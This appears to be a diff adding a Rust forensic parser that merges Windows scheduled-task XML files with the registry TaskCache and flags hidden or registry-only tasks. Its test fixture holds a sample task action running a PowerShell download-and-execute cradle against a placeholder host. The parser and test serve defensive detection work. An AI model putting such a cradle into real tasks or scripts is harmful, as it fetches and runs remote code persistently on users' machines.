@@ -0,0 +1,774 @@
+//! Scheduled task parser.
+//!
+//! Reads the collected task XML files (`C:\Windows\System32\Tasks`) and the
+//! `TaskCache` tree of the collected SOFTWARE hive, and merges them by task
+//! path into `scheduled_tasks.json`.
+//!
+//! Comparing the two sources surfaces common tampering: a task registered in
+//! `TaskCache` without an XML file, or a `TaskCache\Tree` entry whose `SD`
+//! value was removed so the task is hidden from `schtasks` and the Task
+//! Scheduler UI. Actions of tasks that only exist in the registry are
+//! decoded from the binary `Actions` value (Exec and COM handler actions).
+
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use uuid::Uuid;
+
+use super::regf::{Hive, Key};
+use super::ParsedReport;
+
+/// Report file name
+pub const SCHEDULED_TASKS_FILE: &str = "scheduled_tasks.json";
+
+/// Directory holding the task XML files
+pub const TASKS_DIR: &str = "Tasks";
+
+/// SOFTWARE hive key of the Task Scheduler cache
+const TASK_CACHE_KEY: &str = r"Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache";
+
+/// Action type markers in the TaskCache `Actions` value
+const ACTION_EXEC: u16 = 0x6666;
+const ACTION_COM_HANDLER: u16 = 0x7777;
+
+/// A task action
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TaskAction {
+    /// Exec, ComHandler, SendEmail or ShowMessage
+    pub kind: String,
+    pub command: Option<String>,
+    pub arguments: Option<String>,
+    pub working_directory: Option<String>,
+    pub class_id: Option<String>,
+    pub data: Option<String>,
+}
+
+/// A task trigger
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TaskTrigger {
+    /// Trigger element name (LogonTrigger, TimeTrigger, BootTrigger, ...)
+    pub kind: String,
+    pub enabled: bool,
+    pub start_boundary: Option<String>,
+    pub user_id: Option<String>,
+}
+
+/// A scheduled task merged from its XML file and TaskCache entries
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ScheduledTask {
+    /// Task path, e.g. `\Microsoft\Windows\Defrag\ScheduledDefrag`
+    pub path: String,
+    pub author: Option<String>,
+    pub description: Option<String>,
+    pub registration_date: Option<String>,
+    /// From the XML `Settings`; unknown for registry-only tasks
+    pub enabled: Option<bool>,
+    pub hidden: Option<bool>,
+    /// Principal the task runs as
+    pub run_as: Option<String>,
+    pub actions: Vec<TaskAction>,
+    pub triggers: Vec<TaskTrigger>,
+    /// Collected XML file, absent if the task only exists in TaskCache
+    pub xml_file: Option<String>,
+    /// TaskCache task GUID
+    pub registry_id: Option<String>,
+    /// `TaskCache\Tree` entry lacks its security descriptor (hidden task)
+    pub security_descriptor_missing: Option<bool>,
+}
+
+/// An element of a task XML document
+struct Element<'a> {
+    name: &'a str,
+    inner: &'a str,
+}
+
+/// Decode a task file; they are normally UTF-16LE with a BOM
+fn decode_xml(data: &[u8]) -> String {
+    let utf16 = |bytes: &[u8], big_endian: bool| {
+        let units: Vec<u16> = bytes
+            .chunks_exact(2)
+            .map(|c| {
+                if big_endian {
+                    u16::from_be_bytes([c[0], c[1]])
+                } else {
+                    u16::from_le_bytes([c[0], c[1]])
+                }
+            })
+            .collect();
+        String::from_utf16_lossy(&units)
+    };
+    match data {
+        [0xFF, 0xFE, rest @ ..] => utf16(rest, false),
+        [0xFE, 0xFF, rest @ ..] => utf16(rest, true),
+        [0xEF, 0xBB, 0xBF, rest @ ..] => String::from_utf8_lossy(rest).to_string(),
+        [b'<', 0, ..] => utf16(data, false),
+        _ => String::from_utf8_lossy(data).to_string(),
+    }
+}
+
+/// Offsets of the end of `name`'s content and of its closing tag in `body`
+fn matching_close(body: &str, name: &str) -> Option<(usize, usize)> {
+    let open = format!("<{}", name);
+    let close = format!("</{}>", name);
+    let mut depth = 0;
+    let mut pos = 0;
+    loop {
+        let next_close = pos + body[pos..].find(&close)?;
+        let mut search = pos;
+        while let Some(found) = body[search..next_close].find(&open) {
+            let at = search + found;
+            let after = &body[at + open.len()..];
+            let is_tag = after.starts_with(|c: char| c == '>' || c == '/' || c.is_whitespace());
+            let self_closing = after
+                .find('>')
+                .is_some_and(|end| after[..end].ends_with('/'));
+            if is_tag && !self_closing {
+                depth += 1;
+            }
+            search = at + open.len();
+        }
+        if depth == 0 {
+            return Some((next_close, next_close + close.len()));
+        }
+        depth -= 1;
+        pos = next_close + close.len();
+    }
+}
+
+/// Direct child elements of an XML fragment
+fn child_elements(fragment: &str) -> Vec<Element<'_>> {
+    let mut elements = Vec::new();
+    let mut rest = fragment;
+
+    while let Some(start) = rest.find('<') {
+        let after = &rest[start + 1..];
+        let skip_marker = if after.starts_with("!--") {
+            Some("-->")
+        } else if after.starts_with("![CDATA[") {
+            Some("]]>")
+        } else if after.starts_with(['?', '!', '/']) {
+            Some(">")
+        } else {
+            None
+        };
+        if let Some(marker) = skip_marker {
+            match after.find(marker) {
+                Some(end) => {
+                    rest = &after[end + marker.len()..];
+                    continue;
+                }
+                None => break,
+            }
+        }
+
+        let Some(tag_end) = after.find('>') else {
+            break;
+        };
+        let tag = &after[..tag_end];
+        let name_end = tag
+            .find(|c: char| c.is_whitespace() || c == '/')
+            .unwrap_or(tag.len());
+        let name = &tag[..name_end];
+        let body = &after[tag_end + 1..];
+
+        if tag.ends_with('/') {
+            elements.push(Element { name, inner: "" });
+            rest = body;
+            continue;
+        }
+        let Some((inner_end, next)) = matching_close(body, name) else {
+            break;
+        };
+        elements.push(Element {
+            name,
+            inner: &body[..inner_end],
+        });
+        rest = &body[next..];
+    }
+    elements
+}
+
+fn unescape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(amp) = rest.find('&') {
+        out.push_str(&rest[..amp]);
+        let entity_end = rest[amp..].find(';').map(|e| amp + e);
+        let decoded = entity_end.and_then(|end| {
+            let entity = &rest[amp + 1..end];
+            let ch = match entity {
+                "lt" => Some('<'),
+                "gt" => Some('>'),
+                "amp" => Some('&'),
+                "quot" => Some('"'),
+                "apos" => Some('\''),
+                _ => entity
+                    .strip_prefix("#x")
+                    .map(|hex| u32::from_str_radix(hex, 16))
+                    .or_else(|| entity.strip_prefix('#').map(|dec| dec.parse::<u32>()))
+                    .and_then(|n| n.ok())
+                    .and_then(char::from_u32),
+            };
+            ch.map(|c| (c, end))
+        });
+        match decoded {
+            Some((c, end)) => {
+                out.push(c);
+                rest = &rest[end + 1..];
+            }
+            None => {
+                out.push('&');
+                rest = &rest[amp + 1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+fn find<'a, 'b>(elements: &'b [Element<'a>], name: &str) -> Option<&'b Element<'a>> {
+    elements.iter().find(|e| e.name == name)
+}
+
+/// Unescaped, trimmed text of the child element `name`, if not empty
+fn text(elements: &[Element], name: &str) -> Option<String> {
+    find(elements, name)
+        .map(|e| unescape(e.inner.trim()))
+        .filter(|t| !t.is_empty())
+}
+
+fn flag(elements: &[Element], name: &str) -> Option<bool> {
+    text(elements, name).map(|t| t.eq_ignore_ascii_case("true"))
+}
+
+fn normalize_task_path(path: &str) -> String {
+    if path.starts_with('\\') {
+        path.to_string()
+    } else {
+        format!("\\{}", path)
+    }
+}
+
+/// Parse a task XML document; `None` if it is not a task definition
+fn parse_task_xml(xml: &str) -> Option<ScheduledTask> {
+    let root = child_elements(xml).into_iter().find(|e| e.name == "Task")?;
+    let children = child_elements(root.inner);
+
+    let mut task = ScheduledTask::default();
+    if let Some(registration) = find(&children, "RegistrationInfo") {
+        let info = child_elements(registration.inner);
+        task.author = text(&info, "Author");
+        task.description = text(&info, "Description");
+        task.registration_date = text(&info, "Date");
+        task.path = text(&info, "URI")
+            .map(|uri| normalize_task_path(&uri))
+            .unwrap_or_default();
+    }
+
+    // Tasks are enabled unless Settings says otherwise
+    let settings = find(&children, "Settings")
+        .map(|s| child_elements(s.inner))
+        .unwrap_or_default();
+    task.enabled = Some(flag(&settings, "Enabled").unwrap_or(true));
+    task.hidden = Some(flag(&settings, "Hidden").unwrap_or(false));
+
+    if let Some(principals) = find(&children, "Principals") {
+        task.run_as = child_elements(principals.inner)
+            .iter()
+            .filter(|p| p.name == "Principal")
+            .find_map(|p| {
+                let fields = child_elements(p.inner);
+                text(&fields, "UserId").or_else(|| text(&fields, "GroupId"))
+            });
+    }
+
+    if let Some(triggers) = find(&children, "Triggers") {
+        task.triggers = child_elements(triggers.inner)
+            .iter()
+            .map(|trigger| {
+                let fields = child_elements(trigger.inner);
+                TaskTrigger {
+                    kind: trigger.name.to_string(),
+                    enabled: flag(&fields, "Enabled").unwrap_or(true),
+                    start_boundary: text(&fields, "StartBoundary"),
+                    user_id: text(&fields, "UserId"),
+                }
+            })
+            .collect();
+    }
+
+    if let Some(actions) = find(&children, "Actions") {
+        task.actions = child_elements(actions.inner)
+            .iter()
+            .map(|action| {
+                let fields = child_elements(action.inner);
+                TaskAction {
+                    kind: action.name.to_string(),
+                    command: text(&fields, "Command"),
+                    arguments: text(&fields, "Arguments"),
+                    working_directory: text(&fields, "WorkingDirectory"),
+                    class_id: text(&fields, "ClassId"),
+                    data: text(&fields, "Data"),
+                }
+            })
+            .collect();
+    }
+
+    Some(task)
+}
+
+/// Task path derived from the XML file location below the Tasks directory
+fn task_path_from_file(file: &Path) -> String {
+    let components: Vec<String> = file
+        .components()
+        .map(|c| c.as_os_str().to_string_lossy().to_string())
+        .collect();
+    let start = components
+        .iter()
+        .rposition(|c| c.eq_ignore_ascii_case(TASKS_DIR))
+        .map(|i| i + 1)
+        .unwrap_or(components.len().saturating_sub(1));
+    format!("\\{}", components[start..].join("\\"))
+}
+
+/// A task registered in the TaskCache
+#[derive(Debug, Default)]
+struct CachedTask {
+    path: String,
+    id: Option<String>,
+    security_descriptor_missing: Option<bool>,
+    author: Option<String>,
+    description: Option<String>,
+    date: Option<String>,
+    actions: Option<Vec<TaskAction>>,
+}
+
+/// Read a `u32` byte length followed by a UTF-16LE string
+fn counted_string(data: &[u8], offset: usize) -> Option<(String, usize)> {
+    let length = u32::from_le_bytes(data.get(offset..offset + 4)?.try_into().ok()?) as usize;
+    let start = offset + 4;
+    let bytes = data.get(start..start + length)?;
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
+    let text = String::from_utf16_lossy(&units)
+        .trim_end_matches('\0')
+        .to_string();
+    Some((text, start + length))
+}
+
+fn non_empty(value: String) -> Option<String> {
+    (!value.is_empty()).then_some(value)
+}
+
+/// Decode the TaskCache `Actions` value; stops at the first action type it
+/// does not know and returns the actions decoded so far
+fn decode_actions(data: &[u8]) -> Option<Vec<TaskAction>> {
+    let version = u16::from_le_bytes(data.get(0..2)?.try_into().ok()?);
+    // Principal context the actions run under
+    let (_, mut offset) = counted_string(data, 2)?;
+
+    let mut actions = Vec::new();
+    while let Some(magic) = data.get(offset..offset + 2) {
+        let magic = u16::from_le_bytes([magic[0], magic[1]]);
+        let (_id, next) = counted_string(data, offset + 2)?;
+        offset = next;
+        match magic {
+            ACTION_EXEC => {
+                let (command, next) = counted_string(data, offset)?;
+                let (arguments, next) = counted_string(data, next)?;
+                let (working_directory, next) = counted_string(data, next)?;
+                // Version 3 adds a flags field
+                offset = if version >= 3 { next + 2 } else { next };
+                actions.push(TaskAction {
+                    kind: "Exec".to_string(),
+                    command: non_empty(command),
+                    arguments: non_empty(arguments),
+                    working_directory: non_empty(working_directory),
+                    ..Default::default()
+                });
+            }
+            ACTION_COM_HANDLER => {
+                let clsid: [u8; 16] = data.get(offset..offset + 16)?.try_into().ok()?;
+                let (handler_data, next) = counted_string(data, offset + 16)?;
+                offset = next;
+                actions.push(TaskAction {
+                    kind: "ComHandler".to_string(),
+                    class_id: Some(format!(
+                        "{{{}}}",
+                        Uuid::from_bytes_le(clsid)
+                            .hyphenated()
+                            .to_string()
+                            .to_uppercase()
+                    )),
+                    data: non_empty(handler_data),
+                    ..Default::default()
+                });
+            }
+            _ => break,
+        }
+    }
+    Some(actions)
+}
+
+fn string_value(key: &Key, name: &str) -> Result<Option<String>> {
+    Ok(key.value(name)?.and_then(|v| v.as_string()))
+}
+
+/// Walk `TaskCache\Tree`, collecting task paths with their ids
+fn walk_tree(key: &Key, path: &str, out: &mut Vec<CachedTask>) -> Result<()> {
+    for subkey in key.subkeys()? {
+        let subkey_path = format!("{}\\{}", path, subkey.name());
+        if let Some(id) = string_value(&subkey, "Id")? {
+            out.push(CachedTask {
+                path: subkey_path.clone(),
+                id: Some(id),
+                security_descriptor_missing: Some(subkey.value("SD")?.is_none()),
+                ..Default::default()
+            });
+        }
+        walk_tree(&subkey, &subkey_path, out)?;
+    }
+    Ok(())
+}
+
+/// Read the TaskCache of a SOFTWARE hive
+fn read_task_cache(software_hive: &Path) -> Result<Vec<CachedTask>> {
+    let hive = Hive::open(software_hive)?;
+    let Some(cache) = hive.open_key(TASK_CACHE_KEY)? else {
+        return Ok(Vec::new());
+    };
+
+    let mut tasks = Vec::new();
+    if let Some(tree) = cache.subkey("Tree")? {
+        walk_tree(&tree, "", &mut tasks)?;
+    }
+
+    if let Some(task_keys) = cache.subkey("Tasks")? {
+        for key in task_keys.subkeys()? {
+            let id = key.name();
+            let task = match tasks
+                .iter()
+                .position(|t| t.id.as_deref().is_some_and(|i| i.eq_ignore_ascii_case(&id)))
+            {
+                Some(index) => &mut tasks[index],
+                None => {
+                    // Registered without a Tree entry
+                    let Some(path) = string_value(&key, "Path")? else {
+                        continue;
+                    };
+                    tasks.push(CachedTask {
+                        path,
+                        id: Some(id),
+                        ..Default::default()
+                    });
+                    tasks.last_mut().expect("task was just pushed")
+                }
+            };
+            task.author = string_value(&key, "Author")?;
+            task.description = string_value(&key, "Description")?;
+            task.date = string_value(&key, "Date")?;
+            task.actions = key
+                .value("Actions")?
+                .and_then(|value| decode_actions(&value.data));
+        }
+    }
+
+    Ok(tasks)
+}
+
+/// Parse collected task XML files and the TaskCache of the SOFTWARE hive
+pub fn parse_scheduled_tasks(
+    task_files: &[PathBuf],
+    software_hive: Option<&Path>,
+) -> Result<ParsedReport<ScheduledTask>> {
+    let mut sources = task_files.to_vec();
+    sources.extend(software_hive.map(Path::to_path_buf));
+    let mut report = ParsedReport::new(&sources);
+
+    let mut tasks: Vec<ScheduledTask> = Vec::new();
+    for file in task_files {
+        let data = fs::read(file).context(format!("Failed to read {}", file.display()))?;
+        match parse_task_xml(&decode_xml(&data)) {
+            Some(mut task) => {
+                if task.path.is_empty() {
+                    task.path = task_path_from_file(file);
+                }
+                task.xml_file = Some(file.to_string_lossy().to_string());
+                tasks.push(task);
+            }
+            None => report
+                .notes
+                .push(format!("{} is not a task definition", file.display())),
+        }
+    }
+
+    match software_hive.map(read_task_cache) {
+        Some(Ok(cached)) => {
+            let mut index: HashMap<String, usize> = tasks
+                .iter()
+                .enumerate()
+                .map(|(i, t)| (t.path.to_lowercase(), i))
+                .collect();
+            for entry in cached {
+                let key = entry.path.to_lowercase();
+                let task = match index.get(&key) {
+                    Some(&i) => &mut tasks[i],
+                    None => {
+                        index.insert(key, tasks.len());
+                        tasks.push(ScheduledTask {
+                            path: entry.path.clone(),
+                            author: entry.author.clone(),
+                            description: entry.description.clone(),
+                            registration_date: entry.date.clone(),
+                            actions: entry.actions.clone().unwrap_or_default(),
+                            ..Default::default()
+                        });
+                        tasks.last_mut().expect("task was just pushed")
+                    }
+                };
+                task.registry_id = entry.id;
+                task.security_descriptor_missing = entry.security_descriptor_missing;
+            }
+
+            let registry_only = tasks.iter().filter(|t| t.xml_file.is_none()).count();
+            if registry_only > 0 {
+                report.notes.push(format!(
+                    "{} task(s) are registered in TaskCache without a task XML file",
+                    registry_only
+                ));
+            }
+            let hidden = tasks
+                .iter()
+                .filter(|t| t.security_descriptor_missing == Some(true))
+                .count();
+            if hidden > 0 {
+                report.notes.push(format!(
+                    "{} task(s) have no security descriptor in TaskCache\\Tree and are hidden from schtasks",
+                    hidden
+                ));
+            }
+        }
+        Some(Err(e)) => report
+            .notes
+            .push(format!("TaskCache could not be read: {:#}", e)),
+        None => report
+            .notes
+            .push("SOFTWARE hive not collected; TaskCache was not checked".to_string()),
+    }
+
+    tasks.sort_by_key(|t| t.path.to_lowercase());
+    report.records = tasks;
+    Ok(report)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::collectors::parsers::fixtures::{utf16_with_bom, HiveBuilder, HiveKey};
+    use tempfile::TempDir;
+
+    const UPDATER_XML: &str = r#"<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Date>2024-03-01T10:00:00</Date>
+    <Author>CORP\admin</Author>
+    <URI>\Updater</URI>
+  </RegistrationInfo>
+  <Triggers>
+    <LogonTrigger>
+      <Enabled>true</Enabled>
+      <UserId>CORP\alice</UserId>
+    </LogonTrigger>
+    <TimeTrigger>
+      <StartBoundary>2024-03-01T10:05:00</StartBoundary>
+      <Enabled>false</Enabled>
+    </TimeTrigger>
+  </Triggers>
+  <Principals>
+    <Principal id="Author">
+      <UserId>S-1-5-18</UserId>
+    </Principal>
+  </Principals>
+  <Settings>
+    <Enabled>false</Enabled>
+    <Hidden>true</Hidden>
+  </Settings>
+  <!-- <Actions><Exec><Command>commented.exe</Command></Exec></Actions> -->
+  <Actions Context="Author">
+    <Exec>
+      <Command>powershell.exe</Command>
+      <Arguments>-nop -c "iex (New-Object Net.WebClient).DownloadString('http://x/a?b=1&amp;c=2')"</Arguments>
+    </Exec>
+    <ComHandler>
+      <ClassId>{A6BA00FE-40E8-477C-B713-C64A14F18ADB}</ClassId>
+    </ComHandler>
+  </Actions>
+</Task>
+"#;
+
+    fn counted(text: &str) -> Vec<u8> {
+        let bytes: Vec<u8> = text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+        let mut out = (bytes.len() as u32).to_le_bytes().to_vec();
+        out.extend(bytes);
+        out
+    }
+
+    fn exec_actions(command: &str, arguments: &str) -> Vec<u8> {
+        let mut data = 3u16.to_le_bytes().to_vec();
+        data.extend(counted("Author"));
+        data.extend(ACTION_EXEC.to_le_bytes());
+        data.extend(counted(""));
+        data.extend(counted(command));
+        data.extend(counted(arguments));
+        data.extend(counted(""));
+        data.extend([0, 0]);
+        data
+    }
+
+    #[test]
+    fn test_parse_task_xml() {
+        let task = parse_task_xml(&decode_xml(&utf16_with_bom(UPDATER_XML))).unwrap();
+
+        assert_eq!(task.path, r"\Updater");
+        assert_eq!(task.author.as_deref(), Some(r"CORP\admin"));
+        assert_eq!(
+            task.registration_date.as_deref(),
+            Some("2024-03-01T10:00:00")
+        );
+        assert_eq!(task.enabled, Some(false));
+        assert_eq!(task.hidden, Some(true));
+        assert_eq!(task.run_as.as_deref(), Some("S-1-5-18"));
+
+        assert_eq!(task.triggers.len(), 2);
+        assert_eq!(task.triggers[0].kind, "LogonTrigger");
+        assert!(task.triggers[0].enabled);
+        assert_eq!(task.triggers[0].user_id.as_deref(), Some(r"CORP\alice"));
+        assert_eq!(task.triggers[1].kind, "TimeTrigger");
+        assert!(!task.triggers[1].enabled);
+        assert_eq!(
+            task.triggers[1].start_boundary.as_deref(),
+            Some("2024-03-01T10:05:00")
+        );
+
+        assert_eq!(task.actions.len(), 2);
+        assert_eq!(task.actions[0].kind, "Exec");
+        assert_eq!(task.actions[0].command.as_deref(), Some("powershell.exe"));
+        assert!(task.actions[0]
+            .arguments
+            .as_deref()
+            .unwrap()
+            .ends_with("DownloadString('http://x/a?b=1&c=2')\""));
+        assert_eq!(task.actions[1].kind, "ComHandler");
+        assert_eq!(
+            task.actions[1].class_id.as_deref(),
+            Some("{A6BA00FE-40E8-477C-B713-C64A14F18ADB}")
+        );
+    }
+
+    #[test]
+    fn test_not_a_task() {
+        assert!(parse_task_xml("<?xml version=\"1.0\"?><Job></Job>").is_none());
+        assert!(parse_task_xml("MZ\u{90}\0binary").is_none());
+    }
+
+    #[test]
+    fn test_decode_exec_actions() {
+        let actions = decode_actions(&exec_actions(r"C:\Windows\Temp\x.exe", "-s")).unwrap();
+        assert_eq!(actions.len(), 1);
+        assert_eq!(actions[0].kind, "Exec");
+        assert_eq!(
+            actions[0].command.as_deref(),
+            Some(r"C:\Windows\Temp\x.exe")
+        );
+        assert_eq!(actions[0].arguments.as_deref(), Some("-s"));
+        assert_eq!(actions[0].working_directory, None);
+    }
+
+    #[test]
+    fn test_merge_with_task_cache() {
+        let temp = TempDir::new().unwrap();
+        let tasks_dir = temp.path().join("fs/Windows/System32/Tasks");
+        fs::create_dir_all(&tasks_dir).unwrap();
+        let xml_file = tasks_dir.join("Updater");
+        fs::write(&xml_file, utf16_with_bom(UPDATER_XML)).unwrap();
+        let not_task = tasks_dir.join("desktop.ini");
+        fs::write(&not_task, "[.ShellClassInfo]").unwrap();
+
+        let mut root = HiveKey::new("ROOT");
+        let cache = root
+            .subkey("Microsoft")
+            .subkey("Windows NT")
+            .subkey("CurrentVersion")
+            .subkey("Schedule")
+            .subkey("TaskCache");
+        cache
+            .subkey("Tree")
+            .subkey("Updater")
+            .string_value("Id", "{11111111-1111-1111-1111-111111111111}")
+            .binary_value("SD", &[1, 0, 4, 0x80]);
+        // Hidden task: no SD value and no XML file
+        cache
+            .subkey("Tree")
+            .subkey("Microsoft")
+            .subkey("Sync")
+            .string_value("Id", "{22222222-2222-2222-2222-222222222222}");
+        cache
+            .subkey("Tasks")
+            .subkey("{22222222-2222-2222-2222-222222222222}")
+            .string_value("Path", r"\Microsoft\Sync")
+            .string_value("Author", "SYSTEM")
+            .binary_value("Actions", &exec_actions("cmd.exe", "/c whoami"));
+        let software = temp.path().join("SOFTWARE");
+        fs::write(&software, HiveBuilder::build(&root)).unwrap();
+
+        let report = parse_scheduled_tasks(&[xml_file.clone(), not_task], Some(&software)).unwrap();
+        assert_eq!(report.sources.len(), 3);
+        assert_eq!(report.records.len(), 2);
+
+        let sync = &report.records[0];
+        assert_eq!(sync.path, r"\Microsoft\Sync");
+        assert_eq!(sync.xml_file, None);
+        assert_eq!(sync.enabled, None);
+        assert_eq!(sync.author.as_deref(), Some("SYSTEM"));
+        assert_eq!(sync.security_descriptor_missing, Some(true));
+        assert_eq!(sync.actions[0].command.as_deref(), Some("cmd.exe"));
+
+        let updater = &report.records[1];
+        assert_eq!(updater.path, r"\Updater");
+        assert_eq!(
+            updater.xml_file.as_deref(),
+            Some(&*xml_file.to_string_lossy())
+        );
+        assert_eq!(
+            updater.registry_id.as_deref(),
+            Some("{11111111-1111-1111-1111-111111111111}")
+        );
+        assert_eq!(updater.security_descriptor_missing, Some(false));
+
+        assert_eq!(report.notes.len(), 3);
+        assert!(report.notes[0].contains("desktop.ini is not a task definition"));
+        assert!(report.notes[1].starts_with("1 task(s) are registered in TaskCache"));
+        assert!(report.notes[2].starts_with("1 task(s) have no security descriptor"));
+    }
+
+    #[test]
+    fn test_task_path_falls_back_to_file_location() {
+        let file = Path::new("out/Windows-ScheduledTasks/fs/Windows/System32/Tasks/Vendor/Update");
+        assert_eq!(task_path_from_file(file), r"\Vendor\Update");
+    }
+
+    #[test]
+    fn test_missing_software_hive_is_noted() {
+        let report = parse_scheduled_tasks(&[], None).unwrap();
+        assert!(report.records.is_empty());
+        assert_eq!(
+            report.notes,
+            vec!["SOFTWARE hive not collected; TaskCache was not checked"]
+        );
+    }
+}